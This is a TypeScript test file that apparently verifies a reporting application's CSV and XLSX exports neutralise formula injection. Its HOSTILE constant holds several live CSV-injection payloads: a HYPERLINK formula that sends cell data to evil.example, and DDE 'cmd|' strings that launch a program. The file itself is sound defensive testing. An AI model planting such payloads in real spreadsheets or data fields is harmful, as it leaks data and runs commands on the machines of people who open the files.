import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ReportView } from '../../src/contracts/reporting.ts';
import { loadDemoFlows } from '../../src/server/demo/demo-flows.ts';
import { startsLikeFormula } from '../../src/server/shared/cell-text.rules.ts';
import { parseCsv } from '../reporting/export-readers.ts';
import { compileAndForward, draftOf, reportingWorld, submit } from '../reporting/reporting-world.ts';
import { createProvincialOfficials } from '../supervision/annual-report-world.ts';
import { startTestApp, type Client, type TestContext } from '../support/app.ts';
import { demoEnterpriseIds } from './api-helpers.ts';

/**
 * Exports never carry a live formula (issue 12, item 9): hostile texts that begin with = + - @ are put where a
 * user can put them — a report's explanation, an enterprise's name, the reason a report came late, the comment of an
 * annual report — and every
 * export route is downloaded as CSV and XLSX. No text cell may begin with a formula trigger, the hostile texts must
 * be there (neutralised, not dropped), and figures stay numbers (a negative remaining indicator included). The
 * export routes are read from the OpenAPI document, so a new export cannot escape this test.
 */

const PERIOD = '2026-10';
const HOSTILE = {
  explanation: '=HYPERLINK("http://evil.example/?leak="&A1,"详情")',
  name: "-2+3+cmd|' /C calc'!A0",
  comment: '@SUM(1+1)*cmd|" /C calc"!A0',
  reason: '+SUM(1,1) 系统升级，延迟报送',
} as const;
const payloads = Object.values(HOSTILE);

/** A figure the server wrote as a number: read back from CSV it is a number, negative ones included. */
const isNumberText = (text: string) => /^-?\d+(\.\d+)?%?$/.test(text);

interface Scan {
  /** Cells holding one of the hostile texts. */
  readonly hostile: string[];
  /** Text cells that begin with a formula trigger: must be none. */
  readonly live: string[];
  readonly negativeNumbers: number;
}

function scanCsv(body: Buffer): Scan {
  const cells = parseCsv(body).flat();
  return {
    hostile: cells.filter((cell) => payloads.some((payload) => cell.includes(payload))),
    live: cells.filter((cell) => startsLikeFormula(cell) && !isNumberText(cell)),
    negativeNumbers: cells.filter((cell) => isNumberText(cell) && Number.parseFloat(cell) < 0).length,
  };
}

async function scanXlsx(body: Buffer): Promise<Scan> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(body as unknown as ArrayBuffer);
  const texts: string[] = [];
  const live: string[] = [];
  let negativeNumbers = 0;
  workbook.eachSheet((sheet) =>
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        const value = cell.value;
        if (typeof value === 'number') negativeNumbers += value < 0 ? 1 : 0;
        else if (typeof value === 'string') texts.push(value);
        else if (value !== null && typeof value === 'object' && 'formula' in value) live.push(String(value.formula));
      }),
    ),
  );
  return {
    hostile: texts.filter((text) => payloads.some((payload) => text.includes(payload))),
    live: [...live, ...texts.filter((text) => startsLikeFormula(text))],
    negativeNumbers,
  };
}

/**
 * Routes that serve a spreadsheet but write none: a user's own uploaded file, returned byte for byte (its SHA-256
 * and SM3 are the evidence's seal, so the server must not change a byte of it).
 */
const notExports: Record<string, string> = {
  'GET /api/v1/supervision/evidence/{id}':
    'an evidence file as uploaded, byte for byte (x-content-sha256, x-content-sm3)',
};

interface ExportCase {
  /** The URL without the format. */
  readonly url: string;
  readonly formats: readonly ('csv' | 'xlsx')[];
  /** Which hostile texts reach this export (none: the export has no user-controlled text). */
  readonly carries: readonly (keyof typeof HOSTILE)[];
  readonly negative?: boolean;
}

describe('no export carries a live formula', () => {
  const now = new Date('2026-12-10T10:00:00+08:00');
  let context: TestContext;
  let miit: Client;
  let report: ReportView;
  let compilationId: string;
  let cases: Record<string, ExportCase>;

  beforeAll(async () => {
    context = await startTestApp({}, { clock: () => now });
    await loadDemoFlows(context.database);
    miit = await context.as('miit');
    const longnan = (await demoEnterpriseIds(context.database.db)).longnan!;

    // An enterprise's name, as the register keeps it.
    const current = await miit.get(`/api/v1/enterprises/${longnan.id}`);
    expect(current.statusCode, current.body).toBe(200);
    const renamed = await miit.patch(`/api/v1/enterprises/${longnan.id}`, {
      expected_version: current.json<{ version: number }>().version,
      name: HOSTILE.name,
    });
    expect(renamed.statusCode, renamed.body).toBe(200);

    // A report's explanation, with production far over the indicator: the remaining indicator goes negative.
    const enterprise = await context.as('ent.longnan');
    const draft = await draftOf(enterprise, longnan.id, PERIOD);
    const line = draft.lines[0]!;
    const figures = [
      {
        category: line.category,
        production_reo_kg: line.allocated_reo_kg + 5_000_000,
        explanation: HOSTILE.explanation,
      },
    ];
    report = await submit(enterprise, PERIOD, 'formula-longnan-1', { figures });
    expect(report.lines.some((item) => item.remaining_reo_kg < 0)).toBe(true);

    // The county compiles it, with the reason it came late (its rows name the enterprise).
    const world = await reportingWorld(context, PERIOD);
    const reasons = { [longnan.id]: HOSTILE.reason };
    compilationId = (await compileAndForward(await world.division('360783'), '360783', PERIOD, reasons, false)).id;

    // The province's annual supervision report, submitted with a comment.
    await createProvincialOfficials(context);
    const submitted = await (
      await context.as('jx.iit')
    ).post('/api/v1/supervision/annual-reports/360000/2026/submit', {
      expected_version: 0,
      comment: HOSTILE.comment,
      idempotency_key: 'formula-annual-360000',
    });
    expect(submitted.statusCode, submitted.body).toBe(201);

    cases = {
      'GET /api/v1/reports/{id}/export': {
        url: `/api/v1/reports/${report.id}/export`,
        formats: ['csv', 'xlsx'],
        carries: ['explanation', 'name'],
        negative: true,
      },
      'GET /api/v1/compilations/{id}/export': {
        url: `/api/v1/compilations/${compilationId}/export`,
        formats: ['csv', 'xlsx'],
        carries: ['name', 'reason'],
        negative: true,
      },
      'GET /api/v1/reporting/board/export': {
        url: `/api/v1/reporting/board/export?period=${PERIOD}&division_code=360783`,
        formats: ['csv', 'xlsx'],
        carries: ['name'],
      },
      'GET /api/v1/supervision/annual-reports/{province}/{year}/export': {
        url: '/api/v1/supervision/annual-reports/360000/2026/export',
        formats: ['csv', 'xlsx'],
        carries: ['comment', 'name'],
      },
      'GET /api/v1/enterprises/export.csv': {
        url: '/api/v1/enterprises/export.csv?division=360783',
        formats: ['csv'],
        carries: ['name'],
      },
      // The flow file templates hold the fixed example rows: no user-controlled text reaches them.
      'GET /api/v1/flows/templates/flows.csv': {
        url: '/api/v1/flows/templates/flows.csv',
        formats: ['csv'],
        carries: [],
      },
      'GET /api/v1/flows/templates/flows.xlsx': {
        url: '/api/v1/flows/templates/flows.xlsx',
        formats: ['xlsx'],
        carries: [],
      },
    };
  }, 300_000);

  afterAll(async () => {
    await context?.close();
  });

  it('covers every export route of the API (read from the OpenAPI document)', async () => {
    const document = (await context.anonymous.get('/openapi.json')).json<{
      paths: Record<string, Record<string, { parameters?: { name: string }[]; responses?: object }>>;
    }>();
    const exports: string[] = [];
    for (const [path, operations] of Object.entries(document.paths))
      for (const [method, operation] of Object.entries(operations)) {
        const text = JSON.stringify(operation.responses ?? {});
        const isExport =
          /export|\.(csv|xlsx)$/.test(path) ||
          (operation.parameters ?? []).some((parameter) => parameter.name === 'format') ||
          /text\/csv|spreadsheetml/.test(text);
        const writes = method !== 'get';
        if (isExport && !writes) exports.push(`${method.toUpperCase()} ${path}`);
      }
    expect(exports.sort()).toEqual([...Object.keys(cases), ...Object.keys(notExports)].sort());
  });

  it.each([
    'GET /api/v1/reports/{id}/export',
    'GET /api/v1/compilations/{id}/export',
    'GET /api/v1/reporting/board/export',
    'GET /api/v1/supervision/annual-reports/{province}/{year}/export',
    'GET /api/v1/enterprises/export.csv',
    'GET /api/v1/flows/templates/flows.csv',
    'GET /api/v1/flows/templates/flows.xlsx',
  ])('%s: texts neutralised, figures numbers', async (route) => {
    const item = cases[route]!;
    for (const format of item.formats) {
      const url = item.url.endsWith(`.${format}`)
        ? item.url
        : `${item.url}${item.url.includes('?') ? '&' : '?'}format=${format}`;
      const response = await miit.get(url);
      expect(response.statusCode, `${url}: ${response.body.slice(0, 300)}`).toBe(200);
      const scan = format === 'csv' ? scanCsv(response.rawPayload) : await scanXlsx(response.rawPayload);
      expect(scan.live, `${url}: cells a spreadsheet would take for formulas`).toEqual([]);
      for (const key of item.carries)
        expect(
          scan.hostile.some((cell) => cell.includes(HOSTILE[key])),
          `${url}: the ${key} reaches the export`,
        ).toBe(true);
      if (item.carries.length === 0) expect(scan.hostile).toEqual([]);
      if (item.negative) expect(scan.negativeNumbers, `${url}: the negative remaining indicator`).toBeGreaterThan(0);
    }
  });

  it('writes the explanation with one quote before it, which taken away gives the text back', async () => {
    const csv = parseCsv((await miit.get(`/api/v1/reports/${report.id}/export?format=csv`)).rawPayload);
    const cell = csv.flat().find((text) => text.includes(HOSTILE.explanation));
    expect(cell).toBe(`'${HOSTILE.explanation}`);
    expect(cell!.slice(1)).toBe(HOSTILE.explanation);
    const names = csv.filter((record) => record.includes(`'${HOSTILE.name}`));
    expect(names.length).toBeGreaterThan(0);
  });
});
